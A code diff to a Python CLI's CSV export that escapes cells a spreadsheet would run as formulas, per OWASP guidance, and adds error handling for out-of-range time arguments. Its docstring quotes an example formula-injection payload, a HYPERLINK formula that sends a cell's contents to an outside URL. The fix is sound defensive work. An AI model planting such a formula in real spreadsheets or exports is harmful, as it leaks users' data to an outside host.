@@ -412,6 +412,19 @@ def cmd_verify(args: argparse.Namespace) -> int:
 _EXPORT_TABLES = ("messages", "findings", "audit_events", "sessions", "usage", "usage_latency")
 
 
+_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")
+
+
+def csv_cell(v: Any) -> Any:
+    """A text cell that a spreadsheet would run as a formula (a tool name, id or method a
+    client chose: ``=HYPERLINK("https://…?"&B2, "x")``) gets a leading ``'``, as OWASP
+    advises for CSV exports; numbers (``-5``) stay as they are."""
+    if isinstance(v, str) and v.startswith(_FORMULA_START) and not _NUMBER.fullmatch(v):
+        return "'" + v
+    return v
+
+
 def cmd_export(args: argparse.Namespace) -> int:
     conn, path = open_ro(args.db)
     check_schema(conn, path)
@@ -431,7 +444,7 @@ def cmd_export(args: argparse.Namespace) -> int:
             w = csv.DictWriter(out, fieldnames=fields, extrasaction="ignore")
             w.writeheader()
             for r in cur:
-                d = dict(zip(cols, r, strict=True))
+                d = {c: csv_cell(v) for c, v in zip(cols, r, strict=True)}
                 if "time" in d:
                     d["utc"] = iso(d["time"])
                 w.writerow(d)
@@ -477,6 +490,13 @@ def cmd_metadata(args: argparse.Namespace) -> int:
 # -- usage ------------------------------------------------------------------------------
 
 
+def _hour(spec: str) -> str:
+    try:
+        return time.strftime("%Y-%m-%dT%H", time.gmtime(parse_time(spec)))
+    except (OverflowError, OSError, ValueError):
+        raise CliError(f"time {spec!r} is out of range") from None
+
+
 def collect_usage(conn: sqlite3.Connection, args: argparse.Namespace) -> list[dict]:
     where: list[str] = []
     params: list[Any] = []
@@ -489,10 +509,10 @@ def collect_usage(conn: sqlite3.Connection, args: argparse.Namespace) -> list[di
         params += [args.tool, args.tool]
     if args.since:
         where.append("hour >= ?")
-        params.append(time.strftime("%Y-%m-%dT%H", time.gmtime(parse_time(args.since))))
+        params.append(_hour(args.since))
     if args.until:
         where.append("hour <= ?")
-        params.append(time.strftime("%Y-%m-%dT%H", time.gmtime(parse_time(args.until))))
+        params.append(_hour(args.until))
     cond = (" WHERE " + " AND ".join(where)) if where else ""
     tool = "CASE WHEN name != '' THEN name ELSE method END"
     sql = (
